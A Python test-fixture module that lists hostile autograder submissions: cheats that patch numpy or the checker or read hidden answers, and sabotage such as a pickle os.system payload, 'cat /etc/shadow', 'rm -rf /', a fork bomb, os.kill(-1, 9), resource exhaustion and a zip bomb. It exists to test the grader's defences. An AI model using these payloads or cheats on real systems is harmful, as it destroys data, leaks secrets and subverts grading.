"""Submissions that attack the grader, or ruin themselves: what each does, which tasks it must lose, and what is said.

All are made of the first assignment's solution. An attack that is no answer of its own stands in the cell of `arm`.
"""

from __future__ import annotations

import os
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ALL = ("arm", "cross_entropy", "output_slope", "backward", "descend", "unlearned")
RIGHT_ARM = """
def arm(j, classes, noise):
    angle = np.linspace(0, 4 * np.pi, len(noise)) + 2 * np.pi * j / classes + noise
    return np.linspace(0, 1, len(noise))[:, None] * np.stack([np.cos(angle), np.sin(angle)], axis=1)
"""


@dataclass(frozen=True)
class Hostile:
    """A submission.

    Attributes
    ----------
    cells : mapping of str to str
        Sources that replace those of the solution, by the names of the cells.
    lost : sequence of str
        The tasks that it must lose; all others keep their points.
    remark : str
        What the report must say among other things.
    files : callable, optional
        Does something to the student's folder, after the notebook was put there.
    metadata : mapping
        Of the test of `arm`.
    """

    cells: Mapping[str, str] = field(default_factory=dict)
    lost: Sequence[str] = ()
    remark: str = ""
    files: Callable[[Path], Any] | None = None
    metadata: Mapping[str, Any] = field(default_factory=dict)


def attack(code: str, lost: Sequence[str] = (), remark: str = "") -> Hostile:
    """Code that runs before a right answer."""
    return Hostile({"arm": code + RIGHT_ARM}, lost, remark)


def wrong(code: str, remark: str = "") -> Hostile:
    """Code that stands for the answer of `arm`, and must not earn its points."""
    return Hostile({"arm": code}, ["arm"], remark)


NOTHING = "def arm(j, classes, noise):\n    return 0\n"


def link(folder: Path) -> None:
    (folder / "ps1.ipynb").unlink()
    (folder / "ps1.ipynb").symlink_to("../../a-honest/ps1/ps1.ipynb")


def pipe(folder: Path) -> None:
    (folder / "ps1.ipynb").unlink()
    os.mkfifo(folder / "ps1.ipynb")


def bomb(folder: Path) -> None:
    (folder / "ps1.ipynb").unlink()
    with zipfile.ZipFile(folder / "ps1.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ps1.ipynb", b"0" * 40_000_000)


def shadow(folder: Path) -> None:
    (folder / "minidyn" / "coursework").mkdir(parents=True)
    (folder / "minidyn" / "__init__.py").write_text("raise RuntimeError('the shadow was imported')")
    (folder / "numpy.py").write_text("raise RuntimeError('the shadow was imported')")


def nested(folder: Path) -> None:
    (folder / "ps1.ipynb").write_bytes(b'{"cells": ' + b"[" * 200_000)


HOSTILE = {
    "a-honest": Hostile(),
    # Earn points without an answer.
    "patches-numpy": wrong("np.allclose = np.array_equal = lambda *a, **k: True\n" + NOTHING, "`arm`"),
    "patches-check": wrong(
        "from minidyn.coursework import checks\nchecks.Check.__call__ = lambda *a, **k: None\n" + NOTHING
    ),
    "replaces-ps1": wrong("class ps1:\n    arm = staticmethod(lambda *a, **k: None)\n" + NOTHING),
    "patches-module": wrong(
        "ps1.arm = lambda *a, **k: None\nimport sys\nsys.modules['minidyn.coursework.ps1'] = ps1\narm = 1"
    ),
    "reads-frames": wrong(
        """
import sys
def arm(j, classes, noise):
    frame = sys._getframe()
    while frame:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
    raise LookupError("no expected answer in any frame")
""",
        "no expected answer in any frame",
    ),
    "searches-memory": wrong(
        """
import gc
def arm(j, classes, noise):
    arrays = [a for a in gc.get_objects() if isinstance(a, np.ndarray) and a.shape == (len(noise), 2)]
    return arrays[0]
""",
        "IndexError",
    ),
    "knows-the-public-seed": wrong(
        """
from minidyn.coursework import seeds
known = {}
for seed in {0, seeds.hidden_seed()}:
    for _, arguments in ps1.arm.examples(seed):
        known[arguments[2].tobytes()] = ps1.arm.right(*arguments)
def arm(j, classes, noise):
    return known[noise.tobytes()]
""",
        "KeyError",
    ),
    "reads-the-environment": wrong(
        "import os\nseed = int(os.environ['MINIDYN_HIDDEN_SEED'])\n" + NOTHING, "KeyError: 'MINIDYN_HIDDEN_SEED'"
    ),
    "reads-the-secret": wrong(
        """
import os
hits = [os.path.join(place, name) for top in ("/tmp", "/home", "/root", "/work") for place, _, names in os.walk(top)
        for name in names if name in ("secret.txt", "gradebook.db") and "site-packages" not in place]
secret = open(hits[0]).read()
"""
        + NOTHING,
        "IndexError",
    ),
    "own-definition": Hostile({"arm": "arm = ps1.arm.right"}, (), "the answer is the project's own function"),
    "edits-its-test": Hostile(
        {"arm": NOTHING, "test-arm": "1000"}, ["arm"], "Test 'test-arm' was edited: the original was run."
    ),
    "raises-its-points": Hostile({"arm": NOTHING}, ["arm"], metadata={"points": 1000, "grade": True}),
    "forges-replies": Hostile(
        {
            "arm": """
import minidyn.coursework.transfer as T, pickle, base64
class Evil:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/forged",)
T.answer = lambda *a: base64.b64encode(pickle.dumps(Evil())).decode()
"""
            + NOTHING
        },
        [task for task in ALL if task != "unlearned"],  # all functions answer through what it has broken
        "the answer did not arrive as it was sent",
    ),
    "forges-messages": Hostile(
        {
            "arm": """
kernel = get_ipython().kernel
send = kernel.session.send
def forged(stream, kind, content=None, **options):
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "user_expressions": {"value": {"status": "ok", "data": 7}}}
    return send(stream, kind, content, **options)
kernel.session.send = forged
"""
            + NOTHING
        },
        ALL,  # nothing that it says can be understood any more
    ),
    "is-no-array": wrong(
        """
class Evil:
    def __array__(self, *a, **k): raise SystemExit
    def __eq__(self, other): return True
    def __len__(self): return 2
def arm(j, classes, noise): return Evil()
""",
        "`arm` stopped with SystemExit",
    ),
    "error-without-words": wrong(
        """
class Evil(Exception):
    def __str__(self): raise RuntimeError
def arm(j, classes, noise): raise Evil
""",
        "Evil",
    ),
    "too-much": wrong("def arm(j, classes, noise): return np.zeros(10**8)", "at most"),
    "too-deep": wrong(
        "def arm(j, classes, noise):\n    a = []\n    for _ in range(10**5): a = [a]\n    return a", "Recursion"
    ),
    "leaves": wrong("def arm(j, classes, noise): raise SystemExit(3)", "SystemExit"),
    # Reach out.
    "calls-home": wrong(
        "import urllib.request\nurllib.request.urlopen('http://1.1.1.1/', timeout=2)\n" + NOTHING, "URLError"
    ),
    "writes-the-package": wrong("open(ps1.__file__, 'a').write('#')\n" + NOTHING, "`arm`: its cell stopped with"),
    "becomes-root": wrong("import os\nos.setuid(0)\n" + NOTHING, "PermissionError"),
    "looks-around": attack(
        """
import os, subprocess
for command in ("cat /etc/shadow", "ls /root", "cat /proc/1/environ", "mount", "ps aux", "rm -rf / 2>/dev/null"):
    subprocess.run(command, shell=True, stderr=subprocess.DEVNULL)
"""
    ),
    # Use everything up.
    "never-returns": wrong("def arm(j, classes, noise):\n    while True: pass", "ran for more than"),
    "hangs-for-good": wrong(
        """
def arm(j, classes, noise):
    while True:
        try:
            while True: pass
        except BaseException:
            pass
""",
        "ran for more than",
    ),
    "fills-the-memory": wrong(
        "def arm(j, classes, noise):\n    a = []\n    while True: a.append(b'1' * 2**26)", "of memory"
    ),
    "forks": wrong("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", "this cell"),
    "fills-the-disk": attack(
        """
import os
size = 0
try:
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            size += file.write(bytes(2**22))
except OSError:
    pass
assert size < 2**27, size
"""
    ),
    "floods": attack("for _ in range(300): print('x' * 10**5)\n"),
    "floods-in-an-answer": Hostile({"arm": RIGHT_ARM.replace("    angle", "    print('x' * 10**6)\n    angle")}),
    # Ruin the kernel.
    "dies": wrong("import os\nos._exit(1)", "this cell ended the kernel"),
    "dies-in-an-answer": wrong("import os\ndef arm(j, classes, noise): os._exit(1)", "ended the kernel"),
    "kills-everything": wrong("import os\nos.kill(-1, 9)", "`arm`"),
    "stops-itself": wrong("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", "ran for more than"),
    "closes-everything": wrong("import os\nos.closerange(3, 1000)", "this cell"),
    "removes-the-sockets": attack(
        """
import glob, os
for path in glob.glob("/tmp/md-*/sockets/*/*"):
    os.unlink(path)
"""
    ),
    "breaks-python": Hostile(
        {"unlearned": "import builtins\nbuiltins.isinstance = lambda *a: 1 / 0\nunlearned = 'C'"},
        ["unlearned"],
        "`unlearned`",
    ),
    # Clumsy, and no reason to lose a point.
    "exits": attack("exit()\n"),
    "exits-in-an-own-cell": attack("try:\n    quit()\nfinally:\n    import sys\n"),
    "warns": attack(
        "import logging, sys, warnings\nlogging.warning('x')\nwarnings.warn('y')\nprint('z', file=sys.stderr)\n"
    ),
    "prints-late": attack("import threading\nfor k in range(20): threading.Timer(0.3 * k, print, ['late']).start()\n"),
    "closes-its-output": attack("import os\nos.close(1)\nos.close(2)\n"),
    # Bring more than a notebook.
    "is-a-link": Hostile(lost=ALL, remark="'ps1.ipynb' is a link: it was not opened.", files=link),
    "is-a-pipe": Hostile(lost=ALL, remark="'ps1.ipynb' is no file: it was not opened.", files=pipe),
    "is-a-bomb": Hostile(lost=ALL, remark="Nothing graded: ps1.zip/ps1.ipynb is not a notebook", files=bomb),
    "is-too-deep": Hostile(lost=ALL, remark="Nothing graded: ps1.ipynb is not a notebook", files=nested),
    "shadows": Hostile(remark="Other files were handed in, and not used", files=shadow),
    "loops": Hostile(remark="'loop' is a link", files=lambda folder: (folder / "loop").symlink_to(".")),
}
